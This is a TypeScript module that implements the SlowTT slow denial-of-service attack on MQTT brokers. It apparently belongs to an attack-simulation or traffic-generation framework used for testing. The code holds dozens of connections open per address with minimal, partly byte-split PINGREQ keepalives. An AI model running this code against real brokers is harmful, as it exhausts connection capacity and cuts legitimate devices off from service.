// SlowTT: few connections, kept alive with the smallest packets.

import type { Attack } from '../attacker.js'
import { connectPacket, PINGREQ } from '../packets.js'

/** SlowTT (Vaccari, Aiello, Cambiaso 2021): idle connections, kept alive with the smallest packets just in time. */
export const slowTt: Attack = {
  name: 'slowtt',
  summary:
    'SlowTT: 3 to 5 addresses hold 50 to 80 connections each, with a PINGREQ just before the keepalive timeout, some of them sent byte by byte',
  attackers: [3, 5],
  async run(attacker) {
    const { random } = attacker
    const count = random.integer(50, 80)
    const hold = async (): Promise<void> => {
      const keepalive = random.integer(4, 8)
      const isSplit = random.chance(0.3)
      while (!attacker.over) {
        const socket = await attacker.connect()
        if (socket === null) {
          await attacker.pause(1_000)
          continue
        }
        await attacker.send(socket, connectPacket({ clientId: random.text(16), keepalive, clean: true }))
        while (!socket.destroyed) {
          await attacker.pause(keepalive * (isSplit ? 500 : 1_300))
          // Half a PINGREQ now, the other half next time.
          const bytes = isSplit
            ? PINGREQ.subarray(socket.bytesWritten % 2 === 0 ? 0 : 1, socket.bytesWritten % 2 === 0 ? 1 : 2)
            : PINGREQ
          if (!(await attacker.send(socket, bytes))) break
        }
      }
    }
    const holding: Promise<void>[] = []
    for (let i = 0; i < count && !attacker.over; i++) {
      holding.push(hold())
      await attacker.pause(random.between(50, 150))
    }
    await Promise.all(holding)
  }
}
